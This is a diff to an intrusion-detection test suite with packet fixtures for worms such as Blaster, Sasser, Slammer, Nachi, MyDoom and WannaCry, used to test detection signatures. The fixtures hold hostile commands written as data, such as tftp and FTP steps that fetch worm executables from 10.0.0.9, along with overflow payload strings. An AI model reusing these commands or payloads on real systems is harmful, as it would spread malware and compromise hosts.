@@ -85,7 +85,7 @@ signature nachi_ping {
   title    "Nachi: ping before the attack"
   severity medium
   class    worm
-  ref      url "https://isc.sans.edu/diaryarchive.html?year=2003&month=8"
+  ref      url "https://dshield.org/diaryarchive.html?year=2003&month=8"
   when     icmp.type == 8
        and icmp.payload == hex"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
   then     log, drop
@@ -258,6 +258,10 @@ test "not a bind to RemoteActivation: the endpoint mapper, and the answer" {
     ipv4 tcp { dst_port 135  flags PSH | ACK }
     payload hex"05 00 00 03 10 00 00 00 48 00 00 00 7f 00 00 00 d0 16 d0 16 00 00 00 00 01 00 00 00 01 00 01 00 b8 4a 9f 4d 1c 7d cf 11 86 1e 00 20 af 6e 7c 57"
   }
+  packet {
+    ipv4 tcp { src_port 135  dst_port 50000  flags PSH | ACK }
+    payload hex"05 00 0b 03 10 00 00 00 48 00 00 00 7f 00 00 00 d0 16 d0 16 00 00 00 00 01 00 00 00 01 00 01 00 b8 4a 9f 4d 1c 7d cf 11 86 1e 00 20 af 6e 7c 57"
+  }
   expect none
 }
 test "Blaster's exploit" {
@@ -279,7 +283,8 @@ test "Blaster's command" {
   packet { ipv4 tcp { dst_port 4444  flags PSH | ACK } payload "tftp -i 10.0.0.9 GET msblast.exe\n" }
   expect blaster_shell, verdict drop
 }
-test "not Blaster's command: another program, and talk about it" {
+test "not Blaster's command: another program, another way, and talk about it" {
+  packet { ipv4 tcp { dst_port 4444  flags PSH | ACK } payload "del msblast.exe\n" }
   packet { ipv4 tcp { dst_port 4444  flags PSH | ACK } payload "tftp -i 10.0.0.9 GET firmware.bin\n" }
   packet { ipv4 tcp { dst_port 80  flags PSH | ACK } payload "POST /forum HTTP/1.1\r\n\r\ntftp -i 10.0.0.9 GET msblast.exe" }
   expect none
@@ -295,6 +300,7 @@ test "not Blaster's download: other names, and a write" {
   packet { ipv4 udp { dst_port 69 } payload "\0\x01pxelinux.0\0octet\0" }
   packet { ipv4 udp { dst_port 69 } payload "\0\x01msblast.exe.txt\0octet\0" }
   packet { ipv4 udp { dst_port 69 } payload "\0\x02msblast.exe\0octet\0" }
+  packet { ipv4 udp { dst_port 7069 } payload "\0\x01msblast.exe\0octet\0" }
   expect none
 }
 test "Nachi's ping" {
@@ -309,7 +315,8 @@ test "not Nachi's ping: the answer, another length, Windows' alphabet" {
     ipv4 icmp { type 0 }
     payload hex"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
   }
-  packet { ipv4 icmp { type 8 } payload hex"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" }
+  packet { ipv4 icmp { type 8 } payload hex"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" }
+  packet { ipv4 icmp { type 8 } payload hex"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab" }
   packet { ipv4 icmp { type 8 } payload "abcdefghijklmnopqrstuvwabcdefghi" }
   expect none
 }
@@ -329,7 +336,11 @@ test "MyDoom's mail" {
   }
   expect mydoom_mail * 3, verdict accept
 }
-test "not MyDoom's mail: a warning that quotes it, and an honest attachment" {
+test "not MyDoom's mail: a warning that quotes it, an honest attachment, and a page" {
+  packet {
+    ipv4 tcp { dst_port 80  flags PSH | ACK }
+    payload "Mail transaction failed. Partial message is available.\r\n--b\r\nContent-Disposition: attachment; filename=\"text.pif\"\r\n"
+  }
   packet {
     ipv4 tcp { dst_port 25  flags PSH | ACK }
     payload "Beware of mail that says: The message contains Unicode characters and has been sent as a binary attachment.\r\n"
@@ -359,6 +370,11 @@ test "Slammer" {
   }
   expect slammer, sql_resolution_overflow, verdict drop
 }
+test "not Slammer: another service, another request" {
+  packet { ipv4 udp { dst_port 1433 } payload "\x04AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQh.dllhel32hkernQhounthickChGetTf" }
+  packet { ipv4 udp { dst_port 1434 } payload "\x05AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQh.dllhel32hkernQhounthickChGetTf" }
+  expect none
+}
 test "not Slammer, but the same hole" {
   packet { ipv4 udp { dst_port 1434 } payload "\x04AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\0" }
   expect sql_resolution_overflow, verdict drop
@@ -378,13 +394,15 @@ test "Sasser's command" {
 test "not Sasser's command: another file, another port" {
   packet { ipv4 tcp { dst_port 9996  flags PSH | ACK } payload "echo open 10.0.0.9 5554>>cmd.ftp&echo get setup.exe>>cmd.ftp\n" }
   packet { ipv4 tcp { dst_port 9996  flags PSH | ACK } payload "status of 74354_up.exe\n" }
+  packet { ipv4 tcp { dst_port 25  flags PSH | ACK } payload "echo open 10.0.0.9 5554>>cmd.ftp&echo get 74354_up.exe>>cmd.ftp\n" }
   expect none
 }
 test "Sasser is fetched" {
   packet { ipv4 tcp { dst_port 5554  flags PSH | ACK } payload "RETR 74354_up.exe\r\n" }
   expect sasser_download, verdict drop
 }
-test "not Sasser's download: another file, another server" {
+test "not Sasser's download: another file, another command, another server" {
+  packet { ipv4 tcp { dst_port 5554  flags PSH | ACK } payload "DELE 74354_up.exe\r\n" }
   packet { ipv4 tcp { dst_port 5554  flags PSH | ACK } payload "RETR readme.txt\r\n" }
   packet { ipv4 tcp { dst_port 21  flags PSH | ACK } payload "RETR 74354_up.exe\r\n" }
   expect none
@@ -428,7 +446,12 @@ test "WannaCry asks for its kill switch, and gets through" {
   }
   expect wannacry_lookup * 2, verdict accept
 }
-test "not WannaCry: another name, and the answer" {
+test "not WannaCry: other names, and the answers" {
+  packet { ipv4 tcp { dst_port 53  flags PSH | ACK } payload "\0\x1d\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x07example\x03com\0\0\x01\0\x01" }
+  packet {
+    ipv4 tcp { src_port 53  dst_port 50000  flags PSH | ACK }
+    payload "\0\x3f\x12\x34\x81\x80\0\x01\0\x01\0\0\0\0\x29iuqerfsodp9ifjaposdfjhgosurijfaewrwergwea\x03com\0\0\x01\0\x01"
+  }
   packet { ipv4 udp { dst_port 53 } payload "\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x07example\x03com\0\0\x01\0\x01" }
   packet {
     ipv4 udp { src_port 53  dst_port 50000 }
